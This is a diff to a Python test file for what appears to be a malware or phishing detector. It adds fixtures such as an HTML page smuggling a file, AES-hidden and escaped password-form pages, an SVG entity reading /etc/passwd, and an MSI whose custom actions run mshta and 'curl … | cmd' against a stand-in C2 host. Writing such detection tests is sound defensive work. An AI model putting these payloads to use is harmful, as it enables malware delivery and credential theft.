@@ -17,6 +17,7 @@ import zlib
 from email.message import EmailMessage
 from pathlib import Path
 
+from installer_maker import installer
 from shortcut_maker import environment_block, network_info, program, shortcut, tracker_block
 
 URL = "http://c2.malware.example/gate"
@@ -150,6 +151,8 @@ SCRIPTS: dict[str, Case] = {
     "B50 script called a picture": ("a.jpg", f"@echo off\r\ncurl {URL}\r\n".encode(), ("type-mismatch", "script-download")),
 }  # fmt: skip
 
+# A page with a form, as CryptoJS.AES.encrypt writes it.
+_SALTED_PAGE = "U2FsdGVkX19zYWx0c2FsdFZQOBJleBGaY//xtrVkth9tNGUXXQnvjfHwxz5H5jHtlUOOnVWOFhOt8f4K9b4ErKf3Tc4rtfgUvjn0OcFVX8v3ZjO7icmQLmnkWTJzD26IeS3nAQIU0nIvOAdWCRoxjkJexjz1UGQoViSYG7IYxZaPBMbLHGHVLx6MqKpD/Uorrrsawvq2YsXjTmPGAa0QOQ=="
 SMUGGLING: dict[str, Case] = {
     "B26 file in Base64": ("a.html", page(f"var x=atob('{_B}');{_SAVE}"), _FILE),
     "B26 file in pieces": ("a.html", page(f"var a='{_B[:_HALF]}';var b='{_B[_HALF:]}';var x=atob(a+b);{_SAVE}"), _FILE),
@@ -173,6 +176,9 @@ SMUGGLING: dict[str, Case] = {
     "B26 file of Internet Explorer": ("a.html", page(f"navigator.msSaveBlob(new Blob([atob('{_B}')]),'a.exe')"), _FILE),
     "B26 script as a file": ("a.html", page("var x=atob('" + b64(f"@echo off\r\nrem a batch file, saved under a name of its own\r\ncurl {URL} | cmd\r\n") + "');" + _SAVE.replace("報告書.exe", "a.bat")), ("html-script-file", "executable", "script-download", URL)),
     "B26 file that cannot be read": ("a.html", page(f"var x=mystery(atob('{b64(zlib.compress(bytes(range(256)) * 9)[2:] * 12)}'));{_SAVE}"), ("html-script-file", "incomplete")),
+    "B26 page under AES": ("a.html", page(f"document.write(CryptoJS.AES.decrypt('{_SALTED_PAGE}','P4ssw0rd').toString(CryptoJS.enc.Utf8))"), ("html-form", "html-password-form", URL)),
+    "B26 page that a script writes": ("a.html", page("document.write(unescape('" + "".join(f"%{byte:02x}" for byte in page("", f"<form action='{URL}'><input type=password></form>")) + "'))"), ("html-form", "html-password-form", URL)),
+    "B49 SVG with an entity": ("a.svg", f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x '{URL}'><!ENTITY y SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><a href='&x;'><text>&y;</text></a></svg>".encode(), (URL,)),
     "B26 SVG that leads elsewhere": ("a.svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a><set attributeName='href' to='{URL}'/></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><form action='{URL}x'><input type='password'></form></body></foreignObject></svg>".encode(), ("html-form", URL)),
 }  # fmt: skip
 
@@ -184,6 +190,7 @@ PROGRAMS: dict[str, Case] = {
     "B50 Java archive": ("a.jar", packed(**{"META-INF__MANIFEST_MF": "Manifest-Version: 1.0\r\nMain-Class: a.B\r\n"}), ("executable", "package-manifest", "a.B")),
     "B50 app package": ("a.msix", packed(AppxManifest_xml="<Package><Identity Name=\"a\" Publisher=\"CN=b\"/><Applications><Application Id=\"A\" Executable=\"a.exe\" EntryPoint=\"x\"/></Applications></Package>"), ("executable", "package-manifest")),
     "B50 extension": ("a.xpi", packed(manifest_json="{\"manifest_version\": 3, \"name\": \"a\", \"permissions\": [\"http://c2.malware.example/gate\"]}"), ("package-manifest", URL)),
+    "B50 installer": ("a.msi", installer([("a", 6 | 0x40, "", f'CreateObject("WScript.Shell").Run "mshta {URL}"'), ("b", 34, "TARGETDIR", f"cmd /c curl {URL}x")], Binary__a=PROGRAM), ("installer-action", "script-runs-program", "executable-details", URL)),
     "B50 class": ("a.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40), ("executable", "executable-details")),
     "B50 page called a document": ("a.pdf", page("", "x"), ("type-mismatch",)),
     "B50 archive called a picture": ("a.png", packed(a_txt="x"), ("type-mismatch",)),
